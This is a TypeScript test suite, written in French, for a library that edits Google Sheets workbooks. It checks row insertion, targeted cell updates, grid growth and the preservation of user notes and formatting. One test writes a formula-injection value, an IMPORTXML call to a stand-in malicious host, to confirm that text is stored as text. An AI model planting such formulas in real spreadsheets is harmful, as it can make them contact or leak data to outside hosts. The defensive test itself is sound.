import { describe, expect, it } from 'vitest';
import { ajouter, modifier, remplacer } from '../../src/classeur/changements';
import { ErreurClasseur } from '../../src/classeur/erreur-classeur';
import { plan } from '../../src/classeur/plan';
import type { Demande } from '../../src/sheets-api/appel';
import { ClasseurGoogle, classeurInstalle } from '../support/classeur-google';
import { classeurLeger, jsonLeger } from '../support/classeur-leger';
import { colonneDe, feuilleDe } from '../support/feuille-google';
import { euros, jour } from '../support/valeurs';

const CLIENTS = [
  { organisation: 'Alpha', ville: 'Lyon' },
  { organisation: 'Bêta', ville: 'Paris' },
];

const methodes = (demandes: readonly Demande[]) => demandes.map((d) => d.methode);

describe('modifier un classeur Google', () => {
  it('un get, un batchGet, une décision, une écriture', () => {
    const classeur = classeurLeger({ clients: CLIENTS });
    const rendu = classeur.modifier(({ tables }) =>
      plan('fait', {
        changements: [
          ajouter('clients', { organisation: 'Gamma' }),
          ...modifier('clients', tables.clients[0]!, 'Alpha', { ville: 'Brest' }),
        ],
      }),
    );
    expect(rendu.resultat).toBe('fait');
    expect(methodes(classeur.demandes)).toEqual(['get', 'batchGet', 'decider', 'batchUpdate']);
    expect(classeur.lire().tables.clients).toMatchObject([
      { ligne: 2, organisation: 'Alpha', ville: 'Brest' },
      { ligne: 3, organisation: 'Bêta', ville: 'Paris' },
      { ligne: 4, organisation: 'Gamma' },
    ]);
  });

  it('un plan sans changement n’écrit rien', () => {
    const classeur = classeurLeger();
    classeur.modifier(() => plan(null));
    expect(methodes(classeur.demandes)).toEqual(['get', 'batchGet', 'decider']);
  });

  it('ne touche que les cellules changées : mise en forme, colonnes et voisines restent', () => {
    const classeur = classeurLeger({ clients: CLIENTS });
    classeur.appliquer(
      ...modifier('clients', classeur.lire().tables.clients[0]!, 'Alpha', { ville: 'Brest' }),
    );
    const { requetes } = classeur.demandes.at(-1) as Extract<Demande, { methode: 'batchUpdate' }>;
    expect(requetes).toMatchObject([
      { deleteNamedRange: { namedRangeId: 'jeton0' } },
      {
        updateCells: {
          range: { startRowIndex: 1, endRowIndex: 2, startColumnIndex: 11, endColumnIndex: 12 },
          rows: [{ values: [{ userEnteredValue: { stringValue: 'Brest' } }] }],
          fields: 'userEnteredValue',
        },
      },
      { addNamedRange: {} },
    ]);
  });
});

describe('ajouter', () => {
  it('sous le dernier enregistrement, et jamais sur ce que quelqu’un vient de taper', () => {
    const classeur = classeurLeger({ clients: CLIENTS });
    classeur.intercepter = (appel) => {
      if (appel.methode === 'batchUpdate') {
        classeur.intercepter = () => null;
        classeur.taper('Clients', 4, 0, 'Tapé à la main');
      }
      return null;
    };
    classeur.appliquer(ajouter('clients', { organisation: 'Gamma' }));
    expect(classeur.lire().tables.clients.map((c) => c.organisation)).toEqual([
      ...['Alpha', 'Bêta', 'Tapé à la main', 'Gamma'],
    ]);
  });

  it('dans un tableau natif : une ligne insérée, dont il s’agrandit', () => {
    const classeur = classeurInstalle({ clients: CLIENTS });
    classeur.appliquer(ajouter('clients', { organisation: 'Gamma', npai: true }));
    expect(classeur.lire().tables.clients.map((c) => c.ligne)).toEqual([2, 3, 4]);
    const [table] = feuilleDe(classeur, 'Clients').tables ?? [];
    expect(table?.range).toMatchObject({ startRowIndex: 0, endRowIndex: 503 });
    const { corps } = colonneDe(feuilleDe(classeur, 'Clients'), 2);
    expect(corps?.userEnteredFormat?.numberFormat?.type).toBe('TEXT');
  });

  it('insère au-dessus de ce qui est sous les enregistrements (un total de l’utilisateur)', () => {
    const classeur = classeurLeger({ clients: CLIENTS });
    classeur.taper('Clients', 6, 21, 'Total', 2);
    classeur.appliquer(ajouter('clients', { organisation: 'Gamma' }));
    expect(classeur.lire().tables.clients.map((c) => c.ligne)).toEqual([2, 3, 4]);
    expect(classeur.contenu('clients')[6]?.slice(21)).toEqual(['Total', 2]);
  });

  it('agrandit la grille quand elle est pleine', () => {
    const lignes = Array.from({ length: 998 }, (_, i) => ({ organisation: `Client ${i}` }));
    const classeur = classeurLeger({ clients: lignes });
    const taille = () => classeur.emulateur.onglets(classeur.id).find((o) => o.titre === 'Clients');
    expect(taille()?.nbLignes).toBe(1098);
    classeur.remplir(
      'clients',
      Array.from({ length: 150 }, (_, i) => ({ organisation: `N ${i}` })),
    );
    expect(classeur.lire().tables.clients).toHaveLength(1148);
    expect(taille()?.nbLignes).toBeGreaterThan(1149);
    // Le dernier rang occupé, sans une rangée libre dessous.
    const plein = classeurLeger({ clients: CLIENTS });
    plein.aLaMain({
      deleteDimension: {
        range: {
          sheetId: plein.sheetId('Clients'),
          ...{ dimension: 'ROWS', startIndex: 3, endIndex: 1000 },
        },
      },
    });
    plein.appliquer(ajouter('clients', { organisation: 'Gamma' }));
    expect(plein.lire().tables.clients.map((c) => c.ligne)).toEqual([2, 3, 4]);
  });

  it('un texte reste un texte, même une formule ; un montant, une date sont des nombres', () => {
    const classeur = classeurLeger();
    classeur.appliquer(
      ajouter('clients', { organisation: '=IMPORTXML("http://mal.example","//a")' }),
      ajouter('devis', { numero: 'D1', montantHt: euros(1234.5), creeLe: jour('2026-03-02') }),
    );
    const { clients, devis } = classeur.lire().tables;
    expect(clients[0]?.organisation).toMatch(/^=IMPORTXML/);
    expect(devis[0]).toMatchObject({ montantHt: 123450, creeLe: '2026-03-02' });
    const rangs = classeur.contenu('devis')[1];
    expect(rangs).toContain(1234.5);
    expect(rangs).toContain(46083);
    const onglet = classeur.json().sheets?.find((o) => o.properties?.title === 'Clients');
    const cellule = onglet?.data?.[0]?.rowData?.[1]?.values?.[0];
    expect(cellule?.userEnteredValue).toEqual({ stringValue: clients[0]?.organisation });
  });

  it('un texte de plus de 50 000 caractères est refusé à son adresse, rien n’est écrit', () => {
    const classeur = classeurLeger({ clients: CLIENTS });
    const tente = () =>
      classeur.appliquer(
        ajouter('clients', { organisation: 'Gamma', notes: 'x'.repeat(50_001) }),
        ajouter('clients', { organisation: 'Delta', notes: 'x'.repeat(50_000) }),
      );
    expect(tente).toThrow(ErreurClasseur);
    expect(tente).toThrow(/Onglet « Clients », cellule T4 : le texte a 50.001 caractères/);
    expect(classeur.emulateur.compte.ecritures).toBe(0);
  });
});

describe('refaire un onglet généré', () => {
  it('récrit les lignes, vide les restantes, n’efface pas les colonnes de l’utilisateur', () => {
    const classeur = classeurLeger({
      anomalies: [{ onglet: 'A' }, { onglet: 'B' }, { onglet: 'C' }],
    });
    classeur.taper('Anomalies', 3, 6, 'vu');
    classeur.appliquer(remplacer('anomalies', [{ onglet: 'Z' }]));
    expect(classeur.lire().tables.anomalies).toMatchObject([{ ligne: 2, onglet: 'Z' }]);
    expect(classeur.contenu('anomalies')[2]?.[6]).toBe('vu');
  });

  it('plus de lignes que la grille', () => {
    const classeur = classeurLeger();
    const lignes = Array.from({ length: 1500 }, (_, i) => ({ onglet: `O${i}` }));
    classeur.appliquer(remplacer('anomalies', lignes));
    expect(classeur.lire().tables.anomalies).toHaveLength(1500);
  });
});

interface Json {
  readonly sheets: { readonly data: { readonly rowData: { values: object[] }[] }[] }[];
}

describe('les notes de la Revue hebdo suivent leur devis', () => {
  const NOTE = 16;
  const revue = (...numeros: string[]) =>
    numeros.map((numero) => ({ numero, suggestion: 'Attendre' }));
  const preparer = () => {
    const classeur = classeurLeger({ revueHebdo: revue('D1', 'D2', 'D3') });
    classeur.taper('Revue hebdo', 1, NOTE, 'Mes notes');
    for (const [i, note] of ['un', 'deux', 'trois'].entries())
      classeur.taper('Revue hebdo', i + 2, NOTE, note);
    return classeur;
  };
  const notes = (classeur: ReturnType<typeof preparer>) =>
    classeur
      .contenu('revueHebdo')
      .slice(1)
      .map((l) => [l[0], l[NOTE] ?? '']);

  it('à l’autre ordre ; la note d’un devis parti reste, avec son N°', () => {
    const classeur = preparer();
    classeur.appliquer(remplacer('revueHebdo', revue('D3', 'D4', 'D1')));
    expect(notes(classeur)).toEqual([
      ['D3', 'trois'],
      ['D4', ''],
      ['D1', 'un'],
      ['D2', 'deux'],
    ]);
    expect(classeur.emulateur.compte).toMatchObject({ lectures: 3 });
  });

  it('les formules restent sur leur ligne, et prennent la place d’une note', () => {
    const json = jsonLeger({ revueHebdo: revue('D1', 'D2', 'D3') }) as Json;
    const rangees = json.sheets[0]!.data[0]!.rowData;
    const formule = (ligne: number) => ({
      userEnteredValue: { formulaValue: `=ROW()*${ligne}` },
      effectiveValue: { numberValue: 4 },
    });
    // Une formule à côté de D1 et de D2, une note à côté de D3.
    rangees[1]!.values[NOTE] = formule(1);
    rangees[2]!.values[NOTE] = formule(2);
    rangees[3]!.values[NOTE] = { userEnteredValue: { stringValue: 'trois' } };
    const classeur = new ClasseurGoogle(json);
    classeur.appliquer(remplacer('revueHebdo', revue('D3', 'D1')));
    const cellules = feuilleDe(classeur, 'Revue hebdo').data?.[0]?.rowData?.map(
      (r) => r.values?.[NOTE]?.userEnteredValue,
    );
    expect(cellules?.slice(1)).toEqual([
      { formulaValue: '=ROW()*1' },
      { formulaValue: '=ROW()*2' },
      { stringValue: 'trois' },
    ]);
    expect(notes(classeur).map(([numero]) => numero)).toEqual(['D3', 'D1', 'D3']);
  });

  it('avec leur aspect, et sans rien demander de plus quand il n’y en a pas', () => {
    const classeur = preparer();
    const sheetId = classeur.sheetId('Revue hebdo');
    classeur.aLaMain({
      updateCells: {
        range: {
          ...{ sheetId, startRowIndex: 1, endRowIndex: 2 },
          ...{ startColumnIndex: NOTE, endColumnIndex: NOTE + 1 },
        },
        rows: [
          {
            values: [
              {
                userEnteredValue: { numberValue: 46083 },
                userEnteredFormat: { numberFormat: { type: 'DATE', pattern: 'dd/mm/yyyy' } },
                note: 'rappeler',
              },
            ],
          },
        ],
        fields: 'userEnteredValue,userEnteredFormat,note',
      },
    });
    classeur.appliquer(remplacer('revueHebdo', revue('D2', 'D1')));
    const cellule = classeur.json().sheets?.[0]?.data?.[0]?.rowData?.[2]?.values?.[NOTE];
    expect(cellule).toMatchObject({
      userEnteredValue: { numberValue: 46083 },
      userEnteredFormat: { numberFormat: { type: 'DATE' } },
      note: 'rappeler',
    });
    const sans = classeurLeger({ revueHebdo: revue('D1', 'D2') });
    sans.appliquer(remplacer('revueHebdo', revue('D2', 'D1')));
    expect(sans.emulateur.compte).toEqual({ lectures: 2, ecritures: 1 });
  });
});
